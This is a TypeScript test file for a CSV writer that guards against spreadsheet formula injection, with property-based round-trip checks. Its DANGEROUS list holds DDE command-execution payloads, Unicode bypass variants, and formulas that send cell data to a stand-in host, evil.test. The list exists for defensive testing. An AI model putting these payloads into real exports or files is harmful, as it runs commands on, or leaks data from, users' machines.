import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvCell, csvRow, looksLikeFormula } from './csv';

/** A strict reader of RFC 4180, written apart from the writer. Unquoted and empty is null. */
function readCsv(text: string): (string | null)[][] {
  const rows: (string | null)[][] = [];
  let row: (string | null)[] = [];
  let at = 0;
  while (at < text.length) {
    let cell: string | null = null;
    if (text[at] === '"') {
      cell = '';
      for (at++; ; at++) {
        if (at >= text.length) throw new Error('A quote is not closed.');
        if (text[at] !== '"') cell += text[at];
        else if (text[at + 1] === '"') cell += text[at++];
        else break;
      }
      at++;
    }
    row.push(cell);
    if (text[at] === ',') at++;
    else if (text.startsWith('\r\n', at)) {
      rows.push(row);
      row = [];
      at += 2;
    } else throw new Error(`Neither a comma nor a line's end at ${at}.`);
  }
  return rows;
}

const unmarked = (cell: string | null | undefined) => (cell?.startsWith("'") ? cell.slice(1) : cell);

// D13: what a spreadsheet could run, reach out with, or fall apart on.
const DANGEROUS: [string, string][] = [
  ['a formula', '=1+1'],
  ['a plus', '+1+1'],
  ['a minus', '-1+1'],
  ['an at sign', '@SUM(A1)'],
  ['DDE by formula', `=cmd|' /C calc'!A0`],
  ['DDE by plus', `+cmd|' /C calc'!A0`],
  ['DDE by at', `@cmd|' /C calc'!A0`],
  ['DDE bare', `|cmd' /C calc'!A0`],
  ['a per cent command', '%0A=1'],
  ['a link', '=HYPERLINK("https://evil.test?x="&A1,"Click")'],
  ['a web service', '=WEBSERVICE("https://evil.test")'],
  ['an import', '=IMPORTXML("https://evil.test","//a")'],
  ['tab first', '\t=1+1'],
  ['carriage return first', '\r=1+1'],
  ['line feed first', '\n=1+1'],
  ['NUL first', '\u0000=1+1'],
  ['tab and harmless', '\tx'],
  ['space first', ' =1+1'],
  ['no-break space first', '\u00a0=1+1'],
  ['zero-width space first', '\u200b=1+1'],
  ['byte order mark first', '\ufeff=1+1'],
  ['right-to-left override first', '\u202e=1+1'],
  ['full-width equals', '\uff1d1+1'],
  ['full-width plus', '\uff0b1'],
  ['full-width minus', '\uff0d1'],
  ['full-width at', '\uff20SUM(A1)'],
  ['small equals', '\ufe661+1'],
  ['mathematical minus', '\u22121+1'],
  ['superscript plus', '\u207a1'],
  ['nothing but a sign', '='],
];
const HARMLESS = [
  '',
  'Deployed backend to production.',
  '1,234',
  'a=b',
  'mail@team.dev',
  'two\r\nlines',
  'say "hi"',
  ';x',
  'ä',
  '🚀=1',
];

describe('CSV that no spreadsheet runs', () => {
  test('there are thirty cases', () => expect(DANGEROUS).toHaveLength(30));

  test.each(DANGEROUS)('%s is text', (_name, text) => {
    const cell = csvCell(text);
    expect(cell.startsWith(`"'`)).toBe(true);
    expect(unmarked(readCsv(csvRow([text, 'next']))[0]?.[0])).toBe(text);
  });

  test.each(HARMLESS)('%j is left as it is', (text) => {
    expect(looksLikeFormula(text)).toBe(false);
    expect(readCsv(csvRow([text]))).toEqual([[text]]);
  });

  test('an absent value and an empty one are told apart', () => {
    expect(csvRow([null, '', null])).toBe(',"",\r\n');
    expect(readCsv(csvRow([null, '', null]))).toEqual([[null, '', null]]);
  });

  test('5,000 generated rows: each cell comes back, and none begins like a formula', () => {
    const nasty = fc.constantFrom(...'=+-@\t\r\n\u0000",;|%\'\uff1d\uff0b\uff0d\uff20\u200b\ufeff\u00a0 a1é😀');
    const text = fc.oneof(
      fc.array(nasty, { maxLength: 12 }).map((parts) => parts.join('')),
      fc.string({ unit: 'binary', maxLength: 20 }),
      fc.string({ maxLength: 20 }),
    );
    const rows = fc.array(fc.option(text, { nil: null, freq: 8 }), { minLength: 1, maxLength: 6 });
    fc.assert(
      fc.property(rows, (values) => {
        const [read, ...more] = readCsv(csvRow(values));
        expect(more).toEqual([]);
        expect(read?.map(unmarked)).toEqual(values);
        for (const cell of read ?? [])
          if (cell !== null && !cell.startsWith("'")) {
            expect(cell).not.toMatch(/^[\s\u200b\ufeff]*[=+\-@|%\uff1d\uff0b\uff0d\uff20]/);
            expect('\t\r\n\u0000').not.toContain(cell[0] ?? 'x');
          }
      }),
      { numRuns: 5_000 },
    );
  });
});
